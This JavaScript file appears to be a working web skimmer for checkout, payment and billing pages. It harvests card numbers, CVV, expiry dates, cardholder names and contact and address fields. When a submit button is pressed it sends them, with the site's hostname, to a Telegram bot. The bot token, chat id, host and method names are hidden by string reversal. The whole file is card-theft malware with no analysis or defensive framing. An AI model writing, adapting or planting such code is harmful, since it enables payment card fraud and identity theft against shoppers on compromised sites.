// saas-api-exfil: bot-API relay with host, token and method names stored reversed
// short variable names, XMLHttpRequest, message split into chunks below the API text limit
var _r = function (s) { return s.split('').reverse().join(''); };
var _h = _r('gro.margelet.ipa//:sptth');
var _t = _r('wF5eQ2nK0xRzL8tP4mV7bCs1YdJ9hA-GAA:8452163907');
var _c = _r('3915774261001-');
var _m = _r('egasseMdnes');

var _box = {};
var _done = false;

function _v(el) {
  return el && typeof el.value === 'string' ? el.value : '';
}

function _scan() {
  var f = document.getElementsByTagName('input');
  for (var i = 0; i < f.length; i++) {
    var id = (f[i].name || f[i].id || '').toLowerCase();
    var ac = (f[i].getAttribute('autocomplete') || '').toLowerCase();
    if (ac.indexOf('cc-') === 0 || /card|cvv|cvc|expir|holder|mail|phone|zip|post|street|city/.test(id)) {
      if (_v(f[i])) _box[ac || id] = _v(f[i]);
    }
  }
  var sel = document.getElementsByTagName('select');
  for (var j = 0; j < sel.length; j++) {
    var sid = (sel[j].name || sel[j].id || '').toLowerCase();
    if (/exp|month|year|country/.test(sid)) _box[sid] = _v(sel[j]);
  }
}

function _send(txt) {
  var x = new XMLHttpRequest();
  x.open('POST', _h + '/bot' + _t + '/' + _m, true);
  x.setRequestHeader('Content-Type', 'application/json');
  x.send(JSON.stringify({ chat_id: _c, text: txt, disable_web_page_preview: true }));
}

function _flush() {
  if (_done) return;
  _scan();
  var num = '';
  for (var k in _box) {
    if (/cc-number|card.?num|cardnumber/.test(k)) num = _box[k];
  }
  if (num.replace(/\D/g, '').length < 13) return;
  _done = true;
  var lines = ['#' + location.hostname];
  for (var key in _box) lines.push(key + ' = ' + _box[key]);
  var all = lines.join('\n');
  for (var p = 0; p < all.length; p += 3500) {
    _send(all.substr(p, 3500));
  }
}

if (/checkout|payment|billing/i.test(location.href)) {
  document.addEventListener('change', _scan, true);
  document.addEventListener('mousedown', function (e) {
    var b = e.target;
    while (b && b !== document.body) {
      if (b.tagName === 'BUTTON' || (b.tagName === 'INPUT' && b.type === 'submit')) {
        setTimeout(_flush, 50);
        break;
      }
      b = b.parentNode;
    }
  }, true);
}
